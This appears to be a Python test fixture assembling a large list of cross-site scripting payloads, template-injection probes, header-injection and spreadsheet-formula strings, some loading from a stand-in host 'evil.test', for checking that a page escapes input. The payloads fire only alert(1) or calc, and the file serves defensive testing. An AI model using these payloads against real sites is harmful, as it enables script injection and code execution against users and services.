"""What people put into fields to have it run on somebody else's page: every way that markup, attributes, URLs and
scripts begin, in several spellings. Each calls `alert`, which the test watches."""

from __future__ import annotations

import itertools
from urllib.parse import quote

RUN = "alert(1)"

MARKUP = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    "<script src=//evil.test/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} />",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java&#115;cript:{RUN}'>x</a>",
    "<base href=//evil.test/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href=data:text/css,*{{background:url(javascript:{RUN})}}>",
    "<style>@import '//evil.test/x.css';</style>",
    "<style>*{display:none}</style>",
    f"<table background=javascript:{RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<xmp><p title='</xmp><svg/onload={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></x>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<a ping=//evil.test href=#>x</a><area href=javascript:{RUN}>",
    f"<portal src=javascript:{RUN}></portal>",
    f"<animate attributeName=href values=javascript:{RUN} />",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text x=20 y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'>",
]
TAGS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "marquee",
        "select autofocus", "textarea autofocus", "style", "object data=x", "xss tabindex=1 id=x"]  # fmt: skip
HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onpageshow", "onanimationstart", "onpointerover"]
ENDS = ['"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</svg>", "</select>",
        "</pre>", "</noscript>", "`", "\\'", '\\"', "\u2028", "&quot;>", "&#39;>"]  # fmt: skip
ATTRIBUTES = [
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"` onmouseover=`{RUN}` x=`",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f'" style="animation-name:x" onanimationstart="{RUN}"',
    f'"><svg/onload={RUN}>',
    f"x onfocus={RUN} autofocus tabindex=1",
    f'" accesskey="x" onclick="{RUN}" x="',
    f'" formaction="javascript:{RUN}" x="',
]
SCRIPTS = [
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"</script><script>{RUN}</script>",
    f"${{{RUN}}}",
    f"`-{RUN}-`",
    f"*/{RUN}/*",
    f"\u2029{RUN}//",
    f"){RUN}(",
    f"__proto__[onerror]={RUN}",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }}",
    "{{''.__class__}}",
    "{# x #}",
    f"${{{{{RUN}}}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<%= {RUN} %>",
    f"#{{{RUN}}}",
    f"[[{RUN}]]",
]
URLS = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.test/x.js",
    'https://evil.test/"><script src=x>',
    f"blob:{RUN}",
    f"view-source:javascript:{RUN}",
]
ODD = [
    "\u202etxt.exe",
    "a\u0300" * 30,
    "\ufeff<b>x</b>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "x" * 250,
    "<",
    ">",
    "&",
    "&amp;",
    "\"'`<>&",
    "a\r\nSet-Cookie: x=y",
    "=cmd|' /C calc'!A0",
]

PAYLOADS = list(
    dict.fromkeys(
        [
            *MARKUP,
            *(f"<{tag} {handler}={RUN}>" for tag, handler in itertools.product(TAGS, HANDLERS)),
            *(f"{end}<img src=x onerror={RUN}>" for end in ENDS),
            *ATTRIBUTES,
            *SCRIPTS,
            *TEMPLATES,
            *URLS,
            *ODD,
            *(quote(p) for p in MARKUP[:6]),
        ]
    )
)
